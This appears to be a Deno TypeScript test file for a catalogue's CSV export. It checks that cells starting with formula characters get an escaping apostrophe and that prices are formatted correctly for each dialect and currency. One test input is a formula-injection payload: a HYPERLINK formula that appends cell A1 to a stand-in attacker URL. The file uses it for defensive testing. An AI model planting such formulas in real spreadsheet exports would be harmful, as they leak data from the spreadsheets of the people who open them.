import { type CsvDialect, csvHead, csvRows } from "../../src/platform/tables/table_answer.ts";
import { harmless, withoutApostrophe } from "../../src/base/text.ts";
import {
  DEFAULT_COLUMNS,
  productCells,
  type ProductRow,
} from "../../src/catalogue/lists/product_page.ts";
import type { Product } from "../../src/catalogue/products/product.ts";
import { madeProduct } from "./catalogue_workspace.ts";
import { deepStrictEqual as assertEquals, ok } from "node:assert/strict";

const headOf = (dialect: CsvDialect) => csvHead(DEFAULT_COLUMNS, dialect);
const rowsOf = (rows: readonly ProductRow[], dialect: CsvDialect) =>
  csvRows(rows.map((row) => productCells(row, DEFAULT_COLUMNS)), dialect);

const product = madeProduct({
  sku: "00123",
  title: 'Kühl; "Schrank"',
  ourPriceCents: 123_456,
  vatRatePct: 7.5,
  ean: "4006381333931",
});

Deno.test("harmless() puts an apostrophe before formulas, and only there", () => {
  const plain = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
  // A text that already has an apostrophe gets another one, so that reading restores the text.
  const behind = ["\t", "\r", "\n", "  ", "\u00a0", "\u200b", "\ufeff", "'", "''"];
  const starts = [...plain, ...behind.map((start) => `${start}=`)];
  const link = '=HYPERLINK("http://evil.test/"&A1,"x")';
  const run = [link, "\tx", "\rx", "\nx", ...starts.map((start) => `${start}1+1`)];
  for (const text of run) {
    assertEquals(harmless(text), `'${text}`);
    assertEquals(withoutApostrophe(harmless(text)), text);
  }
  for (const text of ["", "a=1", "Gerät", "00123", "1-2", "'a", 'a","b\r\n=1']) {
    assertEquals(harmless(text), text);
    assertEquals(withoutApostrophe(text), text);
  }
});

Deno.test("csvRows() writes amounts by dialect and currency, and makes texts harmless, but no number", () => {
  const yen = { ...product, currency: "JPY", ourPriceCents: 500 };
  const dinar = { ...product, currency: "KWD", ourPriceCents: 1_234 };
  const formulas = { ...product, sku: "=1+1", brand: "@x", ourPriceCents: 5 };
  const table: readonly (readonly [Product, CsvDialect, readonly string[]])[] = [
    [product, "excel", ['"00123";"Kühl; ""Schrank""";', '"1234,56";', '"7,5"', '"4006381333931"']],
    [product, "rfc4180", ['"1234.56",', '"7.5"']],
    [yen, "excel", ['"500"']],
    [dinar, "excel", ['"1,2340"']],
    [formulas, "rfc4180", [`"'=1+1"`, `"'@x"`, '"0.05"']],
  ];
  for (const [written, dialect, cells] of table) {
    const row = rowsOf([{ product: written, market: null }], dialect);
    ok(row.endsWith("\r\n"), row);
    for (const cell of cells) ok(row.includes(cell), `${cell} in ${row}`);
  }
  ok(headOf("excel").startsWith('\uFEFF"id";"sku";"title"') && headOf("excel").endsWith("\r\n"));
  ok(headOf("rfc4180").startsWith('"id","sku"'));
});
